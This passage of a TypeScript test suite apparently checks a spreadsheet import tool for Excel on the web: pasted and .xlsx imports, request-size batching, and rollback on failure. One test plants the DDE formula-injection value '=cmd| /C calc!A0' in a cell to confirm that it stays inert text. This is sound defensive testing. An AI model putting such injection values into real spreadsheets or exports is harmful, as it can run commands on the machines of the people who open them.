          assert.equal(valueAt(hf, SHEET.posts, a1), form, a1);
        });
      } finally {
        hf.destroy();
      }
    });

    it("the same forms pasted from a spreadsheet (tab separated)", async () => {
      const text = [HEADER, ...acceptedRows()].map((r) => csvLine(r, "\t")).join("\n");
      const imported = importText(text, "Pasted text");
      assert.deepEqual(imported.result.validation.posts.map((p) => p.title), FORMS);
      await writeAndCheck(imported);
    });

    it("an .xlsx with formula-looking text and real formulas: text stays text, a formula gives its saved result as text", async () => {
      const wb = new ExcelJS.Workbook();
      const ws = wb.addWorksheet("Posts");
      ws.addRow(HEADER);
      FORMS.forEach((form, i) => ws.addRow([`X-${i}`, form, "OCC", "N", null, 50000, 1, null, null, form]));
      ws.addRow(["F-1", { formula: 'CONCAT("=cmd|"," /C calc!A0")', result: "=cmd| /C calc!A0" }, "CDC", "N", null, { formula: "40000+10000", result: 50000 }, 1, null, null, "Permanent"]);
      const bytes = new Uint8Array(await wb.xlsx.writeBuffer());
      const { grid } = await readWorkbook(bytes);
      const result = importPostList(grid, OCC_CDC, { source: "posts.xlsx" });
      checkRejections(result);
      const titles = result.validation.posts.map((p) => p.title);
      // exceljs keeps a cell's text; a lone "=" or a text formula is still text.
      // XML keeps line breaks as \n: a \r or \r\n typed in a cell comes back as \n.
      assert.deepEqual(titles.slice(0, FORMS.length), FORMS.map((f) => f.replace(/\r\n?/g, "\n")));
      assert.equal(titles[FORMS.length], "=cmd| /C calc!A0");
      assert.equal(result.validation.posts[FORMS.length].salary, 50000);
      await writeAndCheck({ grid, result, source: "posts.xlsx" });
    });
  });

  describe("request size", () => {
    it("long titles after many short ones: every request stays within Excel on the web's 5 MB", async () => {
      // 30,000 short rows, then 200 whose titles are nearly as long as a cell holds: cutting the
      // Posts block by its average row would put all the long rows in one 7 MB request.
      const rows: string[] = [csvLine(HEADER)];
      for (let i = 0; i < 30_000; i++) rows.push(csvLine([`S-${i}`, `Officer ${i}`, "OCC", "N", "", "30000", "1", "", "", "Permanent"]));
      for (let i = 0; i < 200; i++) rows.push(csvLine([`L-${i}`, `Long ${i} ${"x".repeat(30_000)}`, "CDC", "N", "", "30000", "1", "", "", "Permanent"]));
      const imported = importText(rows.join("\r\n"));
      assert.equal(imported.result.validation.posts.length, 30_200);
      const built = planFor(imported);
      const fake = await writeToFake(built.plan, new FakeExcel([{ name: "Sheet1" }], { storeCells: false }));
      const largest = Math.max(...fake.requestBytes);
      assert.ok(largest <= 5_000_000, `a request of ${largest.toLocaleString("en-GB")} bytes`);
      // The batches themselves: each within the writer's budget, and no more of them than it takes.
      const batches = batchesOf(built.plan);
      const sizes = batches.map((b) => b.reduce((sum, { block }) => sum + blockBytes(block), 0));
      for (const size of sizes) assert.ok(size <= MAX_REQUEST_BYTES, `a batch of ${size} bytes`);
      const total = sizes.reduce((a, b) => a + b, 0);
      assert.ok(batches.length <= Math.ceil(total / MAX_REQUEST_BYTES) + 1, `${batches.length} batches for ${total} bytes`);
    });
  });

  describe("all or nothing", () => {
    it("a write of a large import that fails part-way leaves the workbook as it was", async () => {
      const imported = importText(generatedPostListCsv(20_000));
      const built = planFor(imported);
      const fake = new FakeExcel([{ name: "Budget", cells: { A1: "mine" } }]);
      fake.failOnSync = 3;
      await assert.rejects(writeToFake(built.plan, fake, { maxRequestBytes: 500_000 }), /payload/);
      assert.deepEqual(fake.liveSheets().map((s) => s.name), ["Budget"]);
      assert.equal(fake.cell("Budget", "A1").value, "mine");
    });
  });
});
